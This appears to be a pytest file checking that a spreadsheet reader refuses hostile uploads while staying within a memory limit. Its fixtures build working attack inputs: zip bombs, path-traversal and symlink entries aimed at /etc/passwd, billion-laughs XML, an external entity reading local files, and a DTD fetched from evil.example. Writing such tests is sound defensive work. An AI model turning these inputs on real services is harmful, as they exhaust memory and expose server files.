"""S36: archives that unpack without end, hold thousands of entries, reach outside or fetch something are not opened."""

import io
import stat
import struct
import tracemalloc
import warnings
import zipfile
from functools import cache

import pytest
from openpyxl import Workbook

from linli.directory.sheets import files, guard
from linli.directory.sheets.faults import Unreadable
from linli.directory.sheets.files import read_table
from tests.directory.sheets.books import xlsx

pytestmark = pytest.mark.any_database

GOOD = [["编号", "电话"], ["JA-0101", "110"]]
MEGABYTE = 1_000_000


def parts() -> dict[str, bytes]:
    """The parts of a good workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx(GOOD))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(entries: dict, *, more=(), pack=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack, allowZip64=True) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        for info, content in more:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # one name twice is what a test asks for
                archive.writestr(info, content)
    return out.getvalue()


def beside(name: str, content: bytes = b"x", **entry) -> bytes:
    """A good workbook with one more entry."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    for attribute, value in entry.items():
        setattr(info, attribute, value)
    return packed(parts(), more=[(info, content)])


def replaced(name: str, change) -> bytes:
    entries = parts()
    return packed(entries | {name: change(entries[name])})


SHEET = "xl/worksheets/sheet1.xml"
DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCH = b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'


def declared(declaration: bytes):
    """The declaration where XML wants it: behind its first line, if it has one."""
    return lambda xml: (
        xml.replace(b"?>", b"?>" + declaration, 1) if xml.startswith(b"<?xml") else declaration + xml
    )


@cache
def bomb(size: int = 200 * MEGABYTE) -> bytes:
    """Two hundred megabytes of one letter in two hundred kilobytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        with archive.open("xl/media/a.xml", "w", force_zip64=True) as file:
            for _piece in range(size // MEGABYTE):
                file.write(b"a" * MEGABYTE)
    return out.getvalue()


def lying_bomb() -> bytes:
    """Says that it unpacks to a thousand bytes."""
    content = bytearray(bomb())
    at = content.rfind(b"PK\x01\x02")
    struct.pack_into("<L", content, at + 24, 1000)
    return bytes(content)


@cache
def many_entries(count: int = 100_000) -> bytes:
    return packed({f"{n}": b"" for n in range(count)}, pack=zipfile.ZIP_STORED)


def lying_count() -> bytes:
    """A hundred thousand entries, and an end that says there are two."""
    content = bytearray(many_entries())
    at = content.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", content, at + 8, 2, 2)
    return bytes(content)


HOSTILE = {
    "a bomb": (bomb, "unpacks_too_large"),
    "a bomb that lies about its size": (lying_bomb, None),
    "a hundred thousand entries": (many_entries, "suspicious"),
    "a hundred thousand entries that say they are two": (lying_count, "suspicious"),
    "an archive in the archive": (lambda: beside("xl/embeddings/x.xlsx", xlsx(GOOD)), "suspicious"),
    "an archive under another name": (lambda: beside("xl/media/x.png", packed({"x": b"y"})), "suspicious"),
    "a gzip inside": (lambda: beside("xl/media/x.png", b"\x1f\x8b\x08\0"), "suspicious"),
    "a macro": (lambda: beside("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "suspicious"),
    "a way up": (lambda: beside("../../etc/cron.d/x"), "suspicious"),
    "a way up in the middle": (lambda: beside("xl/../../x"), "suspicious"),
    "a way up with backslashes": (lambda: beside("..\\..\\x"), "suspicious"),
    "an absolute path": (lambda: beside("/etc/passwd"), "suspicious"),
    "a drive": (lambda: beside("C:/windows/x"), "suspicious"),
    "a symbolic link": (lambda: beside("xl/link", b"/etc/passwd", external_attr=(stat.S_IFLNK | 0o777) << 16), "suspicious"),
    "one name twice": (lambda: packed(parts(), more=[(SHEET, b"<x/>")]), "suspicious"),
    "an unusual packing": (lambda: packed(parts(), pack=zipfile.ZIP_LZMA), "suspicious"),
    "a billion laughs": (lambda: replaced(SHEET, declared(DOCTYPE)), "suspicious"),
    "an entity from outside": (lambda: replaced("xl/workbook.xml", declared(OUTSIDE)), "suspicious"),
    "a declaration to be fetched": (lambda: replaced("xl/styles.xml", declared(FETCH)), "suspicious"),
    "a declaration in a relation": (lambda: replaced("xl/_rels/workbook.xml.rels", declared(DOCTYPE)), "suspicious"),
    "a declaration in UTF-16": (lambda: replaced(SHEET, lambda xml: declared(DOCTYPE)(xml).decode().encode("utf-16")), "suspicious"),
    "a declaration far behind": (lambda: replaced(SHEET, lambda xml: b"<?xml version='1.0'?>" + b" " * 3 * MEGABYTE + DOCTYPE + xml), "suspicious"),
    "a row of two million cells": (lambda: sheet_of(b"<row>" + b"<c>" * 2_000_000), "suspicious"),
    "three million rows": (lambda: sheet_of(b"<row/>" * 3_000_000), "suspicious"),
    "three million texts": (lambda: beside("xl/sharedStrings2.xml", b"<sst>" + b"<si/>" * 3_000_000 + b"</sst>"), "suspicious"),
    "an end cut off": (lambda: xlsx(GOOD)[:-30], "damaged"),
    "a hole in the middle": (lambda: xlsx(GOOD)[:600] + bytes(300) + xlsx(GOOD)[900:], None),
    "a sheet that is no XML": (lambda: replaced(SHEET, lambda xml: b"PLAIN TEXT"), "damaged"),
    "no workbook inside": (lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "other_office"),
    "an old Excel file": (lambda: guard.OLE + bytes(2000), "old_excel"),
    "a locked file": (lambda: guard.OLE + bytes(600) + guard.ENCRYPTED, "locked"),
    "a web page called .xls": (lambda: b"<html><table><tr><td>x</td></tr></table></html>", "other_office"),
    "an XML spreadsheet of 2003": (lambda: b'<?xml version="1.0"?><Workbook/>', "other_office"),
    "a PDF": (lambda: b"%PDF-1.7\n", "not_a_sheet"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "not_a_sheet"),
    "nothing": (lambda: b"", "empty_file"),
    "only spaces": (lambda: b" \n" * 100, "empty_file"),
    "too large": (lambda: b"x" * (guard.LARGEST_FILE + 1), "too_large"),
    "bytes of no text": (lambda: b"\x81\xff\xfe\xf0" * 50, "not_text"),
    "a quotation mark that never closes": (lambda: '编号,电话\nJA-0101,"110\n'.encode() + b"x,y\n" * 50, "broken_csv"),
    "a cell that never ends": (lambda: "编号,电话\n".encode() + b"x" * 200_000, "broken_csv"),
    "too many rows": (lambda: b"a\n" * (files.MOST_ROWS + 1), "too_many_rows"),
    "too many columns": (lambda: b"a," * files.MOST_COLUMNS + b"a\n", "too_many_columns"),
    "too many columns in a workbook": (lambda: xlsx([["a"] * (files.MOST_COLUMNS + 1)]), "too_many_columns"),
    "a cell in the last column there is": (lambda: far_cell("XFD1"), "too_many_columns"),
    "a cell in the last row there is": (lambda: far_cell("A1048576"), "too_many_rows"),
}  # fmt: skip


def sheet_of(rows: bytes) -> bytes:
    return replaced(SHEET, lambda xml: xml.partition(b"<sheetData>")[0] + b"<sheetData>" + rows + b"</sheetData></worksheet>")  # fmt: skip


def far_cell(place: str) -> bytes:
    book = Workbook()
    book.active["A1"], book.active[place] = "编号", "x"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_s36_is_refused_in_words_and_small_in_memory(name, record_property):
    make, kind = HOSTILE[name]
    content = make()
    tracemalloc.start()
    try:
        with pytest.raises(Unreadable) as refused:
            read_table(content)
        peak = tracemalloc.get_traced_memory()[1] / 2**20
    finally:
        tracemalloc.stop()
    assert refused.value.kind == (kind or refused.value.kind)
    if kind is None:
        assert refused.value.kind in {"damaged", "suspicious", "unpacks_too_large"}
    assert peak < 64, f"{peak:.0f} MiB"
    record_property("figure", f"{name}: refused, {peak:.1f} MiB at most")


def test_s36_what_was_refused_could_have_been_opened_without_the_damage():
    """The workbook all of this is made of is a good one."""
    assert [row.cells for row in read_table(packed(parts())).rows] == [tuple(line) for line in GOOD]
    assert [row.cells for row in read_table(beside("xl/media/picture.png", b"\x89PNG")).rows][1] == (
        "JA-0101",
        "110",
    )


def test_s36_text_that_looks_like_a_declaration_is_only_text():
    table = read_table(xlsx([["编号", "简介"], ["JA-0101", '<!DOCTYPE x [<!ENTITY a "b">]>']]))
    assert table.rows[1].cells[1] == '<!DOCTYPE x [<!ENTITY a "b">]>'
